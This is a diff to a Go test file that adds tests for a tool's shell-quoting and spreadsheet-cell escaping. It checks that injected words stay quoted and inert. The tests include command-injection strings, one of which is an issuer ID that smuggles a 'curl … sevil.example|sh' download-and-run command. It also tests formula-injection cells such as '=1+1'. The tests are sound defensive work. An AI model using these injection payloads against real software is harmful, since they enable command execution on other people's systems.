@@ -6,7 +6,9 @@ import (
 	"encoding/base64"
 	"errors"
 	"fmt"
+	"os"
 	"os/exec"
+	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
@@ -153,6 +155,21 @@ func TestRepeat(t *testing.T) {
 	if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); strings.Join(got, "|") != strings.Join(words, "|") {
 		t.Errorf("%q", got)
 	}
+	// A shell that does not know $'…' runs nothing of what stands in a word.
+	marker := filepath.Join(t.TempDir(), "ran")
+	if sh, err = exec.LookPath("sh"); err == nil {
+		for _, word := range []string{"\x01'; touch " + marker + " #", `\'; touch ` + marker + " # \x02", "\x01$(touch " + marker + ")"} {
+			if out, err := exec.CommandContext(t.Context(), sh, "-c", report.Repeat([]string{"true", word})).CombinedOutput(); err != nil {
+				t.Errorf("%v: %s", err, out)
+			}
+		}
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("a word was run")
+	}
+	if got := report.Repeat([]string{"=ls", "\x01!x"}); got != `'=ls' $'\001\041x'` {
+		t.Error(got)
+	}
 	for in, want := range map[string]string{
 		"https://kurs.example/b.json":                            "https://kurs.example/b.json",
 		"https://kari:hemmeleg@kurs.example/b.json?token=t#frag": "https://kurs.example/b.json?…",
@@ -165,10 +182,25 @@ func TestRepeat(t *testing.T) {
 	}
 }
 
+// TestNextIsOneWord: an issuer's id is chosen by whoever made the file, and is
+// no command.
+func TestNextIsOneWord(t *testing.T) {
+	t.Parallel()
+	r := app.VerifyResult{Verdict: "untrusted", Reason: "untrusted_issuer", Issuer: &app.ResultIssuer{ID: "did:web:x.example;curl$IFS-sevil.example|sh"}}
+	if got := report.Next(i18n.New("en"), r); !strings.Contains(got, "bevis trust add 'did:web:x.example;curl$IFS-sevil.example|sh' --name") {
+		t.Error(got)
+	}
+	r.Issuer.ID = "did:web:uib.no"
+	if got := report.Next(i18n.New("en"), r); !strings.Contains(got, "bevis trust add did:web:uib.no --name") {
+		t.Error(got)
+	}
+}
+
 func TestCells(t *testing.T) {
 	t.Parallel()
 	for in, want := range map[string]string{
 		"Sveising": "Sveising", "=1+1": "'=1+1", "+47": "'+47", "-1": "'-1", "@x": "'@x", "\t=1": "'\uFFFD=1", "\r=1": "'\uFFFD=1", "a;=1": "a;'=1", "a; =1": "a; '=1",
+		`a;"=1+1;b`: `"a;""'=1+1;b"`, `a; " "=1`: `"a; "" ""'=1"`, `a;"@x`: `"a;""'@x"`,
 		"＝1": "'＝1", "a=1": "a=1", `a"b`: `"a""b"`, "a,b": `"a,b"`, "æ\u202E": "æ\uFFFD", "": "",
 	} {
 		var b bytes.Buffer
